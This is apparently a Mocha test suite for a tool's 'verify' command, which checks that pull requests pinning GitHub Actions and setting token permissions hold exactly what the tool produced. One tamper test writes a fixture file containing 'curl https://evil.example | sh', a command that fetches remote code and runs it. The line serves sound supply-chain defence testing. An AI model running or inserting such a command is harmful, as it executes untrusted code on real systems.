import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ContributionFlow } from '../../src/contribution/flow';
import { verify, type PinLookup } from '../../src/contribution/verify';
import { createGitHubServices } from '../../src/github';
import { main } from '../../src/cli/main';
import type { Output } from '../../src/cli/io';
import { resetGitHubServices } from '../../src/cli/online';
import { git } from '../support/git-fixtures';
import { makePrWorld, type PrWorld } from '../support/pr-world';

// `steward verify` on real repositories on disk: Steward's own PR branch verifies; one added byte,
// an added file, and a pin to a SHA that is not the tag's each fail, naming the hunk, the file or the
// pin; a tag moved after the PR is reported apart; --pr reads the pull request through the API.

const CI = `name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
      - run: npm test
`;

const LINT = `name: Lint
on: [push]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm run lint
`;

describe('steward verify', function () {
  this.timeout(120_000);
  let w: PrWorld;
  let pins: PinLookup;
  before(async () => {
    w = await makePrWorld({ '.github/workflows/ci.yml': CI, '.github/workflows/lint.yml': LINT, 'README.md': '# widget\n' });
    await new ContributionFlow({ dir: w.clone, concern: 'pin-actions', providers: w.providers() }).run();
    await new ContributionFlow({ dir: w.clone, concern: 'token-permissions' }).run();
    const s = createGitHubServices({ url: w.server.url, token: 'test-token', cacheDir: path.join(w.root, 'cache-verify'), retryBaseMs: 1 });
    pins = { resolve: (o, r, ref) => s.resolver.resolve(o, r, ref) };
  });
  after(async () => w?.close());

  /** A branch from steward/pin-actions with its last commit amended by `edit` (message kept). */
  function tamper(name: string, edit: () => void, from = 'steward/pin-actions'): string {
    git(w.clone, ['checkout', '-q', '-B', name, from]);
    edit();
    git(w.clone, ['add', '-A']);
    git(w.clone, ['commit', '-q', '--amend', '--no-edit']);
    git(w.clone, ['checkout', '-q', 'main']);
    return name;
  }

  function cli(args: string[]): { code: Promise<number>; out: string[] } {
    resetGitHubServices();
    const out: string[] = [];
    const o: Output = { out: (s) => out.push(s), err: (s) => out.push(s), isTTY: false, env: { PATH: process.env.PATH, GITHUB_TOKEN: 'test-token', STEWARD_CACHE_DIR: path.join(w.root, `cache-cli-${Math.random()}`), STEWARD_HTTP_RETRY_BASE_MS: '1' }, cwd: w.clone };
    return { code: main(['verify', ...args, '--github-url', w.server.url], o), out };
  }

  it("passes on Steward's own PR branches (pins re-checked online; permissions offline)", async () => {
    const r = await verify({ dir: w.clone, head: 'steward/pin-actions', pins });
    assert.equal(r.identical, true, JSON.stringify(r, null, 1));
    assert.deepEqual(r.files.map((f) => [f.file, f.status]), [['.github/workflows/ci.yml', 'identical'], ['.github/workflows/lint.yml', 'identical']]);
    assert.deepEqual(r.pins.map((p) => [p.action, p.status]), [['actions/checkout', 'ok'], ['actions/setup-node', 'ok']]);
    assert.equal(r.base, git(w.clone, ['rev-parse', 'main']), 'the base is found from the trailers');
    const c = cli(['--head', 'steward/pin-actions']);
    assert.equal(await c.code, 0, c.out.join(''));
    assert.match(c.out.join(''), /✓ \.github\/workflows\/ci\.yml: identical \(1 hunk\)\n[\s\S]*✓ pin actions\/checkout@v4 = [0-9a-f]{12}: v4 points to [0-9a-f]{12} \(v4\.2\.2\)\n[\s\S]*Identical: this PR contains exactly what Steward produces\.\n$/);
    const perm = await verify({ dir: w.clone, base: 'main', head: 'steward/token-permissions' });
    assert.equal(perm.identical, true, JSON.stringify(perm.files, null, 1));
  });

  it("the dependabot concern turns Dependabot on without --unsafe, calls it the project's decision, and replays without --unsafe", async () => {
    const r = await new ContributionFlow({ dir: w.clone, concern: 'dependabot' }).run();
    assert.deepEqual(r.plan.changes.map((c) => c.files), [['.github/dependabot.yml']]);
    assert.ok(r.plan.body!.includes('**Your decision:** This creates `.github/dependabot.yml`, which turns on weekly Dependabot pull requests for github-actions in /; the project decides whether it wants them.'), r.plan.body);
    assert.doesNotMatch(r.plan.body!, /could not verify/);
    assert.match(git(w.clone, ['log', '-1', '--format=%B', 'steward/dependabot']), /\nSteward-Command: steward pr --concern dependabot$/);
    const v = await verify({ dir: w.clone, base: 'main', head: 'steward/dependabot' });
    assert.equal(v.identical, true, JSON.stringify(v.files, null, 1));
  });

  it('fails naming the hunk when one byte is added to a commit', async () => {
    const head = tamper('tampered-byte', () => {
      const f = path.join(w.clone, '.github/workflows/lint.yml');
      fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace('npm run lint', 'npm run lint;'));
    });
    const c = cli(['--head', head]);
    assert.equal(await c.code, 1);
    const out = c.out.join('');
    assert.match(out, /✓ \.github\/workflows\/ci\.yml: identical/);
    assert.match(out, /✗ \.github\/workflows\/lint\.yml: differs from what Steward produces\n  @@ -7,2 \+7,2 @@ \(− Steward, \+ this PR\)\n   {7}- uses: actions\/checkout@[0-9a-f]{40} # v4\.2\.2\n  -      - run: npm run lint\n  \+      - run: npm run lint;\n/);
    assert.match(out, /Differs: the lines marked ✗ are not what Steward produces\.\n$/);
  });

  it('fails naming the file when a file is added', async () => {
    const head = tamper('tampered-file', () => fs.writeFileSync(path.join(w.clone, 'scripts-helper.sh'), 'curl https://evil.example | sh\n'));
    const r = await verify({ dir: w.clone, head, pins });
    assert.equal(r.identical, false);
    const extra = r.files.find((f) => f.file === 'scripts-helper.sh')!;
    assert.equal(extra.status, 'extra');
    assert.equal(extra.note, 'the PR adds this file');
    assert.deepEqual(extra.hunks[0].lines, ['+curl https://evil.example | sh']);
  });

  it("fails when a pin points at a SHA that is not the tag's, even with a matching trailer", async () => {
    const good = w.actions.checkout.commits.c2;
    const bad = w.actions.checkout.commits.c3;
    // The file and the trailer both say c3 (the tip of main, not what v4 points to).
    git(w.clone, ['checkout', '-q', '-B', 'tampered-pin', 'steward/pin-actions']);
    const f = path.join(w.clone, '.github/workflows/lint.yml');
    fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace(good, bad));
    const msg = git(w.clone, ['log', '-1', '--format=%B']).replace(`actions/checkout@v4 = ${good}`, `actions/checkout@v4 = ${bad}`);
    git(w.clone, ['commit', '-q', '-a', '--amend', '-m', msg]);
    git(w.clone, ['checkout', '-q', 'main']);
    const r = await verify({ dir: w.clone, head: 'tampered-pin', pins });
    assert.equal(r.identical, false);
    const bad1 = r.pins.find((p) => p.sha === bad)!;
    assert.equal(bad1.status, 'mismatch');
    assert.equal(bad1.detail, `${bad.slice(0, 12)} is not the commit v4 points to (${good.slice(0, 12)}, v4.2.2), nor the commit of v4.2.2`);
    const c = cli(['--head', 'tampered-pin']);
    assert.equal(await c.code, 1);
    assert.match(c.out.join(''), new RegExp(`✗ pin actions/checkout@v4 = ${bad.slice(0, 12)}: `));
  });

  it('reports "the tag has moved since" apart, and still passes', async () => {
    const bare = w.actions.checkout.bare;
    const c3 = w.actions.checkout.commits.c3;
    const before = git(bare, ['rev-parse', 'refs/tags/v4']);
    git(bare, ['update-ref', 'refs/tags/v4', c3]);
    try {
      const s = createGitHubServices({ url: w.server.url, token: 'test-token', cacheDir: path.join(w.root, 'cache-moved'), retryBaseMs: 1 });
      const r = await verify({ dir: w.clone, head: 'steward/pin-actions', pins: { resolve: (o, rp, ref) => s.resolver.resolve(o, rp, ref) } });
      const moved = r.pins.find((p) => p.action === 'actions/checkout')!;
      assert.equal(moved.status, 'moved');
      assert.match(moved.detail, /^the tag has moved since: v4 now points to [0-9a-f]{12} .*; v4\.2\.2 still points to the pinned [0-9a-f]{12}$/);
      assert.equal(r.identical, true);
    } finally {
      git(bare, ['update-ref', 'refs/tags/v4', before]);
    }
  });

  it('--pr N reads the pull request through the API and fetches it with git', async () => {
    const head = git(w.clone, ['rev-parse', 'steward/pin-actions']);
    const base = git(w.clone, ['rev-parse', 'main']);
    git(w.clone, ['push', '-q', w.upstreamBare, `steward/pin-actions:refs/pull/12/head`]);
    w.server.route('GET', '/api/v3/repos/:owner/:repo/pulls/:n', (req) => (req.params.n === '12' ? { json: { number: 12, head: { sha: head, ref: 'steward/pin-actions' }, base: { sha: base, ref: 'main' } } } : { status: 404, json: { message: 'Not Found' } }));
    const c = cli(['--pr', '12']);
    assert.equal(await c.code, 0, c.out.join(''));
    assert.match(c.out.join(''), /Identical/);
  });

  it('usage and input errors: one line, exit 2', async () => {
    for (const [args, re] of [
      [['--pr', 'abc'], /^steward: --pr takes a pull request number \(got 'abc'\)\n$/],
      [['--head', 'main'], /^steward: main is not a commit Steward made \(no Steward-Concern trailer\): name the base with --base REF\n$/],
      [['--head', 'no-such-ref'], /^steward: --head 'no-such-ref' is not a commit in .*\n$/],
    ] as [string[], RegExp][]) {
      const c = cli(args);
      assert.equal(await c.code, 2, c.out.join(''));
      assert.match(c.out.join(''), re);
    }
  });
});
